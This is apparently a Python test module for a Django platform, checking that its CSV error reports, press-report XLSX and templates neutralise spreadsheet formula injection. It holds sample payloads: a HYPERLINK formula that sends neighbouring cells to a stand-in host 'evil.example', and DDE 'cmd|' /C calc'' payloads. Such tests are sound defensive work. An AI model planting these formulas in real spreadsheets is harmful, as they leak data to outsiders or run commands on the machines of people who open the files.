"""Item 7: formula injection through the spreadsheets the platform writes.

A cell beginning with = + - @ is run as a formula by Excel, WPS and LibreOffice:
`=HYPERLINK("http://evil.example/?d="&A1,"点击")` sends the neighbouring cells to a stranger's server
when the file is opened. Before, such cells of an uploaded import file were copied unchanged into
/imports/<id>/errors.csv, a lab's stored unmatched barcodes into its errors.csv, and a round's name
into the press report's .xlsx (openpyxl stores a str beginning with "=" as a formula). Each is
attacked through the real views; every such cell comes back as text (a leading apostrophe)."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from fangkong.core.spreadsheets import safe_cell
from fangkong.imports.models import ImportJob
from fangkong.testing.models import ResultUpload
from tests.imports.conftest import row, write_csv
from tests.testing.factories import make_round

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"点击")'
PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", " =1+1"]


def body(response) -> str:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return raw.decode("utf-8-sig")


def cells(text: str) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(text)) for cell in line]


def assert_inert(values: list[object]) -> None:
    for value in values:
        if isinstance(value, str) and value.lstrip(" ")[:1] in "=+-@＝＋－＠" and value:
            raise AssertionError(f"a spreadsheet would run {value!r} as a formula")


def test_the_neutraliser():
    assert [safe_cell(p) for p in PAYLOADS] == ["'" + p for p in PAYLOADS]
    assert [safe_cell(v) for v in ("-3", "+1.5", -3, None, "王秀英", "150102********1234", "")] == [
        "-3", "+1.5", -3, None, "王秀英", "150102********1234", ""
    ]  # fmt: skip


def test_formula_cells_in_an_import_file_come_back_inert_in_errors_csv(city, users, client, tmp_path, django_capture_on_commit_callbacks):
    rows = [row("甲", sex=HYPERLINK), row("乙", tags=PAYLOADS[1]), row("丙", birth_date=PAYLOADS[2]), row("丁", phone=PAYLOADS[3])]
    rows.append(row("戊", household=PAYLOADS[4], sex=PAYLOADS[5]))
    path = write_csv(tmp_path / "名单.csv", rows)
    client.force_login(users["community"])
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("imports:job_upload"), {"file": SimpleUploadedFile(path.name, path.read_bytes()), "mode": "validate"})
    job = ImportJob.objects.get()
    assert job.error_count >= 5
    report = client.get(reverse("imports:job_error_report", args=[job.pk]))
    assert report.status_code == 200
    values = cells(body(report))
    assert "'" + HYPERLINK in values  # still readable, as text
    assert_inert(values)


def test_stored_formula_barcodes_come_back_inert_in_the_labs_errors_csv(client, setup):
    """Unmatched barcodes stored before the barcode rule (item 12) existed, and error messages, as text."""
    upload = ResultUpload.objects.create(
        round=setup.round, laboratory=setup.lab, uploaded_by=setup.lab_user, original_name="r.csv", sha256="0" * 64,
        file_format="csv", status="succeeded",
        errors=[{"row": 2, "field": "=cmd|' /C calc'!A0", "message": "@SUM(1+1)"}],
        unmatched=[{"row": 3, "barcode": HYPERLINK, "reason": "unknown_barcode"}],
    )  # fmt: skip
    client.force_login(setup.lab_user)
    response = client.get(reverse("testing:lab_upload_errors", args=[setup.round.pk, upload.pk]))
    assert response.status_code == 200
    values = cells(body(response))
    assert "'" + HYPERLINK in values
    assert_inert(values)


def test_a_formula_round_name_is_text_in_the_press_report_xlsx(client, users, city):
    testing_round = make_round(users["command"])
    testing_round.name = HYPERLINK
    testing_round.save(update_fields=["name"])
    client.force_login(users["command"])
    response = client.get(reverse("testing:press_report_xlsx", args=[testing_round.pk]))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))
    values = []
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for cell in line:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                values.append(cell.value)
    assert "'" + HYPERLINK in values
    assert_inert(values)


@pytest.mark.parametrize("url", ["imports:template", "testing:result_template"])
def test_the_templates_carry_no_formula(client, users, url):
    client.force_login(users["command"])
    for fmt in ("csv", "xlsx"):
        response = client.get(reverse(url, args=[fmt]))
        assert response.status_code == 200
        if fmt == "csv":
            assert_inert(cells(body(response)))
        else:
            book = load_workbook(io.BytesIO(response.content))
            assert_inert([c.value for s in book.worksheets for line in s.iter_rows() for c in line])
